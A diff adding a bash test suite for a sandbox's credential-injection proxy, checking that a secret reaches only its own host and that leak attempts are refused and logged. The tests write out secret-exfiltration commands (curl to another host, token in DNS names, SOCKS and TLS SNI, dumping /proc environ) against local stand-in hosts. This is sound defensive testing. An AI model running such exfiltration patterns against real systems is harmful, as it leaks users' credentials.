@@ -1,0 +1,194 @@
+#!/usr/bin/env bash
+# inject.sh — credential injection on plaintext HTTP (issue 15): the run
+# holds a placeholder, the egress process puts the value on the wire in
+# request headers toward the secret's own host only, scrubs it out of that
+# host's answers, and refuses the placeholder anywhere else (secret.exfil).
+#
+# The test host (tests/helpers/egress-net.bash) echoes the request line and
+# headers it received and logs them to http.log: the log shows what went
+# on the wire (the value), the run's output what came back (scrubbed to the
+# placeholder). Every exfiltration path has its control next to it.
+#
+# shellcheck source=tests/lib.sh
+. "$(dirname "$0")/../lib.sh"
+require_bin
+is_root || skip_all "needs root (network namespaces of the test's own)"
+command -v ip >/dev/null && command -v nsenter >/dev/null && command -v python3 >/dev/null &&
+	command -v curl >/dev/null || skip_all "needs ip, nsenter, python3 and curl"
+new_workspace
+# shellcheck source=tests/helpers/egress-net.bash
+. "$RF_SRC/tests/helpers/egress-net.bash"
+
+NP=(env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy
+	-u NO_PROXY -u no_proxy)
+VAL=rfv$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
+printf '%s' "$VAL" | "$RF_BIN" secret set --state-dir "$RF_STATE" api >/dev/null 2>&1 ||
+	bail_out "secret set failed"
+NET=(--add-host "svc.test:$net.2" --add-host "other.test:$net.2" --allow-host svc.test
+	--allow-host other.test)
+INJ=(--inject "TOKEN=store:api@svc.test:8080" "${NET[@]}")
+httplog() { cat "$TH/http.log" 2>/dev/null; }
+exfils() { records | grep -c '"secret.exfil"'; }
+
+# ---- refused at start ---------------------------------------------------------------------------
+er --inject "TOKEN=store:api@svc.test:8080" -- true
+is "$RF_RC" 125 "an injection in a run without any allow rule: refused at start (125)"
+like "$RF_ERR" 'could never be used' "... saying why"
+er --inject "TOKEN=store:api@svc.test:8080" --add-host "other.test:$net.2" --allow-host other.test -- true
+is "$RF_RC" 125 "an injection whose host no allow rule reaches: refused at start (125)"
+like "$RF_ERR" 'no allow rule lets the run reach svc.test' "... naming the host"
+er --inject "TOKEN=store:api@*.svc.test" "${NET[@]}" -- true
+is "$RF_RC" 125 "--inject with a wildcard host: refused (125)"
+
+# ---- the proxy path -----------------------------------------------------------------------------
+rm -f "$TH/http.log"
+er "${INJ[@]}" -- sh -c 'echo "PH=$TOKEN"; curl -sS -m 10 -H "Authorization: Bearer $TOKEN" \
+	http://svc.test:8080/proxied'
+PH=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
+like "$PH" '^[A-Za-z0-9_-]{22,}$' "the run's TOKEN is a placeholder of A-Z a-z 0-9 _ - (${#PH} characters)"
+isnt "$PH" "$VAL" "... not the value"
+is "${#PH}" "${#VAL}" "... as long as the value (default shape)"
+like "$(httplog)" "Authorization: Bearer $VAL" "through the proxy: the test host received the real value"
+unlike "$(httplog)" "$PH" "... and not the placeholder"
+like "$(httplog)" 'Accept-Encoding: identity' "... with Accept-Encoding: identity (a compressed answer would hide the value)"
+like "$RF_OUT" "Authorization: Bearer $PH" "the host's echo reached the run scrubbed back to the placeholder"
+unlike "$RF_OUT" "$VAL" "... the run's output never holds the value"
+like "$(records | grep '"secret.inject"' | head -1)" '"path":"/proxied"' "secret.inject recorded for the request (name, host, method, path)"
+unlike "$(records)" "$VAL" "... and the audit log holds no value"
+
+# every request of a keep-alive connection is injected
+rm -f "$TH/http.log"
+er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -H "x-api-key: $TOKEN" http://svc.test:8080/one \
+	http://svc.test:8080/two'
+is "$(httplog | grep -c "x-api-key: $VAL")" 2 "keep-alive: both requests of one connection carry the value (x-api-key, no template)"
+
+# Basic credentials with the placeholder as password (Python urllib)
+rm -f "$TH/http.log"
+er "${INJ[@]}" -- python3 -c '
+import base64, os, urllib.request
+tok = os.environ["TOKEN"]
+req = urllib.request.Request("http://svc.test:8080/basic")
+req.add_header("Authorization", "Basic " + base64.b64encode(("git:" + tok).encode()).decode())
+print(urllib.request.urlopen(req, timeout=10).read().decode())'
+B64=$(printf 'git:%s' "$VAL" | base64 -w0)
+like "$(httplog)" "Authorization: Basic $B64" "Python urllib, Basic credentials: decoded, replaced, encoded again"
+like "$RF_OUT" 'GET /basic' "... answered"
+unlike "$RF_OUT" "$VAL" "... and no value in what the run saw"
+
+# ---- the captured path --------------------------------------------------------------------------
+er "${NET[@]}" -- getent ahostsv4 svc.test
+case "$RF_OUT" in
+198.18.*)
+	rm -f "$TH/http.log"
+	er "${INJ[@]}" -- "${NP[@]}" sh -c 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" \
+		http://svc.test:8080/captured; echo "PH=$TOKEN"'
+	PH2=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
+	like "$(httplog)" "GET /captured" "captured (no proxy variables): the request arrived"
+	like "$(httplog)" "Authorization: Bearer $VAL" "... with the real value"
+	like "$RF_OUT" "Authorization: Bearer $PH2" "... and the echo came back scrubbed"
+	unlike "$RF_OUT" "$VAL" "... with no value"
+	isnt "$PH2" "$PH" "a placeholder is new for every run"
+	# DNS: the placeholder in a name the run looks up
+	n0=$(exfils)
+	er "${INJ[@]}" -- sh -c 'getent hosts "x$TOKEN.svc.test"; echo "rc=$?"; getent hosts svc.test >/dev/null; echo "control=$?"'
+	like "$RF_OUT" 'rc=2' "DNS: a name holding the placeholder is not resolved"
+	like "$RF_OUT" 'control=0' "... the control (svc.test) is"
+	ok_n=$(($(exfils) - n0))
+	is "$((ok_n >= 1))" 1 "... secret.exfil recorded for the DNS name ($ok_n: one per query type)"
+	like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"DNS name looked up"' "... saying where it stood"
+	;;
+*) skip "the captured path" "this build does not capture ($RF_OUT)" ;;
+esac
+
+# ---- the value is in no process's environment, file or state ----------------------------------
+er "${INJ[@]}" -- sh -c 'for f in /proc/[0-9]*/environ; do cat "$f"; done | od -An -tx1 | tr -d " \n"'
+HEXVAL=$(printf '%s' "$VAL" | od -An -tx1 | tr -d ' \n')
+[ -n "$RF_OUT" ] && ok=1 || ok=0
+is "$ok" 1 "the environments of the run's processes were read"
+unlike "$RF_OUT" "$HEXVAL" "... and none holds the value"
+check "the state dir (audit log, logs, store) holds no value" sh -c "! grep -rqF -- '$VAL' '$RF_STATE'"
+
+# ---- exfiltration, each with its control --------------------------------------------------------
+rm -f "$TH/http.log"
+n0=$(exfils)
+er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://other.test:8080/leak; echo
+	curl -sS -m 10 http://other.test:8080/control'
+like "$RF_OUT" 'refused: the placeholder of the injected secret TOKEN stands in the request header Authorization' \
+	"another allowed host with the placeholder in a header: 403 saying why"
+unlike "$(httplog)" 'GET /leak' "... nothing reached that host"
+like "$RF_OUT" 'GET /control' "... the control (the same host, no placeholder) works"
+is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
+like "$(records | grep '"secret.exfil"' | tail -1)" '"destination":"other.test:8080"' "... naming the destination"
+
+n0=$(exfils)
+er "${INJ[@]}" -- sh -c 'curl -sS -m 10 "http://svc.test:8080/q?k=$TOKEN"; echo
+	curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/ok'
+like "$RF_OUT" 'stands in the request target' "the placeholder in the URL, even to the secret's host: 403"
+unlike "$(httplog)" 'GET /q' "... nothing of it arrived"
+like "$RF_OUT" 'GET /ok' "... the control (header, same host) works"
+is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
+
+n0=$(exfils)
+er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -d "k=$TOKEN" http://other.test:8080/post; echo
+	curl -sS -m 10 -d "$TOKEN" http://svc.test:8080/post-own; echo
+	curl -sS -m 10 -d "k=v" http://other.test:8080/post-ok'
+like "$(sed -n 1p <<<"$RF_OUT")" 'other.test:8080 refused: .*stands in the request body' "the placeholder in a request body to another host: 403"
+like "$RF_OUT" 'svc.test:8080 refused: .*stands in the request body' "... and to the secret's own host (no body replacement declared): 403 too"
+like "$RF_OUT" 'POST /post-ok' "... the control (a body without it) is served"
+is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
+
+n0=$(exfils)
+er "${INJ[@]}" -- sh -c 'python3 ec.py connect "x$TOKEN.other.test:443" "x$TOKEN.other.test"
+	python3 ec.py socks "x$TOKEN.other.test" 4443
+	python3 ec.py socks other.test 4443'
+like "$(sed -n 1p <<<"$RF_OUT")" '^HTTP/1\.1 403' "a CONNECT target holding the placeholder: 403"
+like "$(sed -n 2p <<<"$RF_OUT")" '^socks REP=2' "a SOCKS5 host holding the placeholder: refused (REP=2)"
+like "$(sed -n 3p <<<"$RF_OUT")" '^socks REP=0' "... the control (SOCKS5 to other.test) works"
+is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
+
+if [ -s "$TH/cert.pem" ]; then
+	n0=$(exfils)
+	er "${INJ[@]}" -- sh -c 'python3 ec.py connect svc.test:8443 "x$TOKEN.svc.test"
+		python3 ec.py connect svc.test:8443 svc.test'
+	like "$(sed -n 2p <<<"$RF_OUT")" '^tls failed' "a TLS SNI holding the placeholder: the tunnel is closed"
+	like "$(sed -n 4p <<<"$RF_OUT")" '^tls ok' "... the control (SNI svc.test) completes its handshake"
+	is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
+	like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"TLS SNI"' "... where: TLS SNI"
+else
+	skip "the SNI case" "no openssl for the test host's certificate"
+fi
+
+# ---- on_exfil "kill" ----------------------------------------------------------------------------
+cat >"$WS/kill.json" <<JSON
+{"version": 1,
+ "secrets": [{"name": "api", "deliver": "inject", "from": "store:api", "env": "TOKEN",
+              "hosts": ["svc.test:8080"], "header": "x-api-key: {}", "on_exfil": "kill"}]}
+JSON
+rm -f "$TH/http.log"
+er -p "$WS/kill.json" "${NET[@]}" -- sh -c 'curl -sS -m 10 http://svc.test:8080/templ; echo
+	curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://other.test:8080/leak2; echo
+	sleep 20; echo survived'
+like "$(httplog)" "x-api-key: $VAL" "policy header template: x-api-key set on a request that named no placeholder"
+unlike "$RF_OUT" 'survived' "on_exfil kill: the run ended at the exfiltration attempt"
+isnt "$RF_RC" 0 "... with a failure status ($RF_RC)"
+like "$(records | grep '"run.kill"' | tail -1)" 'secret.exfil' "... run.kill recorded with the reason"
+
+# ---- the grant ends: injection stops ------------------------------------------------------------
+cat >"$WS/ttl.json" <<JSON
+{"version": 1,
+ "secrets": [{"name": "TOKEN", "deliver": "inject", "from": "store:api",
+              "hosts": ["svc.test:8080"], "ttl": "2s"}]}
+JSON
+rm -f "$TH/http.log"
+# while the grant lives the egress process adds Accept-Encoding: identity
+# toward the host; the run waits until it no longer does (bounded)
+er -p "$WS/ttl.json" "${NET[@]}" -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/before >/dev/null
+	i=0; while curl -sS -m 10 http://svc.test:8080/poll | grep -q "Accept-Encoding: identity" && [ $i -lt 600 ]; do i=$((i + 1)); sleep 0.05; done
+	curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/after >/dev/null; echo "PH=$TOKEN"'
+PH3=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
+like "$(httplog | grep -A6 'GET /before')" "Authorization: Bearer $VAL" "while the grant lives the value is injected"
+like "$(httplog | grep -A6 'GET /after')" "Authorization: Bearer $PH3" "after its ttl the placeholder goes out as it is (worthless)"
+unlike "$(httplog | grep -A6 'GET /after')" "$VAL" "... never the value"
+like "$(records | grep '"secret.revoke"' | grep '"name":"TOKEN"' | tail -1)" 'injection stops' "... secret.revoke says injection stopped"
+
+done_testing
